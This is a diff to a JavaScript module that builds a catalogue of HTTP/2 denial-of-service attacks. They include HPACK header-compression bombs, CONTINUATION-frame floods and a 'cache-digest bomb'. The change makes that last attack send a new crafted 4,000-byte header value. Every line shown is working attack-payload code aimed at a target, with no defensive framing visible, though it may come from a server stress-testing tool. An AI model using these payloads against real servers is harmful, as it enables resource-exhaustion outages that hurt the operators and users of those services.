@@ -27,8 +27,10 @@ const onEach = (count, make, options) => (place) => flood(place, count, (i) => B
 const ofOne = (count, make, options) => (place) => flood(place, count, make, options);
 
 /** A field of 4,000 bytes goes into the table once; then `count` times a byte that means all of it. */
-const bomb = (count, name = "x") => (stream) => headers(stream, Buffer.concat([
-  ...GET.map(([n, v]) => field(n, v)), field(name, "a".repeat(4000), true), Buffer.alloc(count, 0x80 | 62)]));
+const bomb = (count, name = "x", value = "a".repeat(4000)) => (stream) => headers(stream, Buffer.concat([
+  ...GET.map(([n, v]) => field(n, v)), field(name, value, true), Buffer.alloc(count, 0x80 | 62)]));
+/** 31 bits a key at most, none of them fixed, and then a key in each bit. */
+const DIGEST = `-D${"_".repeat(3998)}`;
 
 async function openBodies(place) {
   return flood(place, 100, (i) => Buffer.concat([headers(id(i), POST, { end: false }),
@@ -90,7 +92,7 @@ export const ATTACKS = {
   "HPACK bomb by CONTINUATION": onEach(20, (s) => [
     headers(s, Buffer.concat([...GET.map(([n, v]) => field(n, v)), field("x", "a".repeat(4000), true)]), { flags: 0 }),
     ...repeat(60, () => frame(TYPE.CONTINUATION, 0, s, Buffer.alloc(16000, 0x80 | 62)))]),
-  "cache-digest bomb": onEach(50, (s) => [bomb(110, "cache-digest")(s)]),
+  "cache-digest bomb": onEach(50, (s) => [bomb(110, "cache-digest", DIGEST)(s)]),
   "CONTINUATION without end": (place) => flood(place, 100000, () => frame(TYPE.CONTINUATION, 0, 1, Buffer.alloc(0)),
     { setup: [headers(1, GET, { flags: 0 })] }),
   "a table that shrinks and grows": onEach(200, (s) => [headers(s, Buffer.concat([
